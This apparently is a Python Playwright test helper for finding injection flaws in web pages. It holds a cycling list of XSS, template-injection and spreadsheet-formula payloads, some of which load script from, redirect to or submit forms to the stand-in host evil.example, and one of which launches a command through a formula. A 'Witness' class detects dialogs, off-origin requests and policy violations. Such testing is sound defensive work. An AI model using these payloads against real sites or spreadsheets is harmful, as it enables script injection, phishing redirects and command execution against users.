"""Words that would do harm where a page took them for something else than words, and a witness who sees if one does."""

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from itertools import cycle

from playwright.sync_api import Browser, Dialog, Page, Request

ELSEWHERE = "//evil.example"
DONE = "window.harmed = (window.harmed || 0) + 1"
PAYLOADS = (
    f'"><script>{DONE}</script>',
    "'><img src=x onerror=alert(1)>",
    f"<svg onload={DONE.replace(' ', '')}>",
    f'<svg><script href="{ELSEWHERE}/a.js"></script></svg>',
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) style=position:fixed;inset:0 '",
    "</textarea></title></style><script>alert(1)</script>",
    f'<iframe srcdoc="<script>parent.{DONE}</script>"></iframe>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    f'<div hx-get="{ELSEWHERE}/x" hx-trigger="load" hx-on:load="alert(1)"></div>',
    f'<link rel=stylesheet href={ELSEWHERE}/a.css><base href="{ELSEWHERE}/">',
    f'<meta http-equiv="refresh" content="0;url=http:{ELSEWHERE}/">',
    f"<form action={ELSEWHERE}><button autofocus>Sign in</button></form>",
    "javascript:alert(1)//",
    "{{7*7}}${7*7}<%=7*7%>#{7*7}[[7*7]]",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;img src=x onerror=alert(1)&#x3e;",
    "<scr\u200bipt>alert(1)</scr\u200bipt>\uff1cscript\uff1ealert(1)",
    "\u202e\u2066<b onclick=alert(1)>\u202d",
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
)


def payloads() -> Iterator[str]:
    """One after the other, for ever."""
    return cycle(PAYLOADS)


@dataclass
class Witness:
    """A browser window in which nothing may run, open, load or be refused that is not ours."""

    page: Page
    origin: str
    seen: list[str] = field(default_factory=list)

    def _dialog(self, dialog: Dialog) -> None:
        self.seen.append(f"a dialog on {self.page.url}")
        dialog.dismiss()

    def _request(self, request: Request) -> None:
        if not request.url.startswith((f"{self.origin}/", self.origin.replace("http", "ws"), "data:", "about:")):
            self.seen.append(f"a request to {request.url}")

    def looks(self, path: str) -> str:
        """At a whole page, until all that it loads and runs by itself has run."""
        self.page.goto(self.origin + path, wait_until="load")
        self.page.evaluate("() => new Promise(done => requestAnimationFrame(() => setTimeout(done, 0)))")
        harmed = self.page.evaluate("window.harmed || 0")
        told = self.page.evaluate("window.violations || []")
        self.seen += [f"a script ran on {path}"] if harmed else []
        self.seen += [f"the content policy refused {each} on {path}" for each in told]
        if not self.page.url.startswith(self.origin):
            self.seen.append(f"{path} led to {self.page.url}")
        return self.page.content()


@contextmanager
def a_witness(browser: Browser, origin: str) -> Iterator[Witness]:
    page = browser.new_page()
    page.add_init_script(
        "window.violations = [];"
        "addEventListener('securitypolicyviolation', e => violations.push(e.violatedDirective + ' ' + e.blockedURI));"
    )
    witness = Witness(page, origin)
    page.on("dialog", witness._dialog)
    page.on("request", witness._request)
    yield witness
    page.close()
